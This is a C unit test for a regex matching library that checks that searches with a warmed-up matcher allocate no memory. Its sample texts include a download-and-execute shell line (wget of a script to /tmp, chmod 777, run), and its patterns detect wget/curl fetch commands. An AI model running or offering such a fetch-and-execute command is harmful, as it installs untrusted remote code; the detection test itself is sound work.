/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A warmed-up matcher allocates nothing. The program's own malloc counts, PCRE2's calls included;
 * under a sanitizer, which needs malloc for itself, this test skips.
 */
#include "match/pattern.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
#define SANITIZED 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer) || __has_feature(thread_sanitizer)
#define SANITIZED 1
#endif
#endif

#define LENGTH(array) (sizeof(array) / sizeof(*(array)))

#ifndef SANITIZED
static atomic_uint n_allocations;

extern void *__libc_malloc(size_t size);
extern void *__libc_calloc(size_t n, size_t size);
extern void *__libc_realloc(void *p, size_t size);

__attribute__((visibility("default"))) void *malloc(size_t size)
{
    n_allocations++;
    return __libc_malloc(size);
}

__attribute__((visibility("default"))) void *calloc(size_t n, size_t size)
{
    n_allocations++;
    return __libc_calloc(n, size);
}

__attribute__((visibility("default"))) void *realloc(void *p, size_t size)
{
    n_allocations++;
    return __libc_realloc(p, size);
}
#endif

static const struct {
    const char *says, *source;
} cases[] = {
    {"a literal", "wget"},
    {"a folded literal", "(?i)WGET"},
    {"a DFA", "\\b(wget|curl)\\s+(-\\S+\\s+)*(https?|ftp)://"},
    {"an automaton that does not fit the cache", "[a-z ]*e[a-z ]{12}[0-9]{2}"},
    {"groups", "(?i)((w)(g)(e)t)|(c)(u)(r)l"},
    {"loops of nothing", "((w|)*g|e*)*t"},
    {"look-around", "(?<!x)wget(?= )"},
    {"groups in PCRE2", "(w+)(?:get|\\1) (-q)?(?!x)"},
};

static const char *const texts[] = {
    "cd /tmp; wget -q http://198.51.100.7/a.sh; chmod 777 a.sh; ./a.sh",
    "CURL http://203.0.113.9/b",
    "",
    "caf\xc3\xa9 \xe4\xb8\xad\xe6\x96\x87 \xf0\x9f\x98\x80 wget",
    "the tests here are the ones where letters are meant to be the same and then some 42",
    "\xff\xc3 wget \xf0\x9f",
};

static void search_all(pattern *const *patterns, matcher *m)
{
    match_span spans[8];

    for (size_t i = 0; i < LENGTH(cases); i++) {
        for (size_t k = 0; k < LENGTH(texts); k++) {
            matcher_new_event(m);
            assert_in_range(pattern_holds(patterns[i], m, str_from(texts[k])), 0, 3);
            assert_in_range(pattern_find(patterns[i], m, str_from(texts[k]), spans, 8), 0, 3);
        }
    }
}

static void test_no_allocation(void **state)
{
    pattern *patterns[LENGTH(cases)] = {0};
    matcher *m = matcher_new(&(matcher_options){.cache_max = 64000});

    (void)state;
#ifdef SANITIZED
    printf("SKIP: allocations cannot be counted under a sanitizer\n");
#else
    unsigned before;
#endif
    for (size_t i = 0; i < LENGTH(cases); i++)
        assert_int_equal(pattern_from_regex(str_from(cases[i].source), 0, &patterns[i], NULL), 0);
    search_all(patterns, m);
#ifndef SANITIZED
    assert_true(n_allocations > 0);
    before = n_allocations;
    search_all(patterns, m);
    assert_int_equal(n_allocations - before, 0);
#endif
    for (size_t i = 0; i < LENGTH(cases); i++)
        pattern_unref(patterns[i]);
    matcher_free(m);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_no_allocation)};

    return cmocka_run_group_tests(tests, NULL, NULL);
}
